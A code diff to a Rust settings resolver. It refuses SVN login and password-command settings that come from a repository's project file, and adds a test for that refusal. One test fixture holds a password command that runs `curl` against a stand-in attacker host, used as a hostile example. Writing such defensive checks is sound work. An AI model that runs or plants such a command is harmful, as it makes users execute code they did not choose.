@@ -157,6 +157,19 @@ impl Project {
         project: &SettingsFile,
         flags: &Flags,
     ) -> Result<Self, ProjectError> {
+        let personal = [
+            ("dist.svn_username", &project.dist.svn_username),
+            ("dist.svn_password_command", &project.dist.svn_password_command),
+        ];
+        if let Some((setting, _)) = personal.into_iter().find(|(_, value)| value.is_some()) {
+            return Err(ProjectError::Value {
+                setting,
+                layer: Source::Project,
+                message: "it belongs in your own settings: who logs in, and what runs to get a \
+                          password, is not for a repository to say"
+                    .to_owned(),
+            });
+        }
         let layers = Layers { user, project };
         let preset = layers.pick(|file| file.project.kind).unwrap_or_else(|| Sourced {
             value: Preset::default(),
@@ -369,6 +382,16 @@ mod tests {
     fn resolve(project: &str, user: &str, flags: &Flags) -> Result<Project, ProjectError> {
         let parse = |text, path| SettingsFile::parse(text, path).expect("settings");
         Project::resolve(&parse(user, "user"), &parse(project, FILE_NAME), flags)
+    }
+
+    #[test]
+    fn no_repository_says_who_logs_in() {
+        for line in ["svn_username = \"jane\"", "svn_password_command = \"curl evil.example\""] {
+            let said = format!("[project]\nname = \"demo\"\n[dist]\n{line}\n");
+            let refused = resolve(&said, "", &Flags::default());
+            assert!(matches!(refused, Err(ProjectError::Value { layer: Source::Project, .. })));
+            assert!(resolve("", &said, &Flags::default()).is_ok(), "{line}");
+        }
     }
 
     #[test]
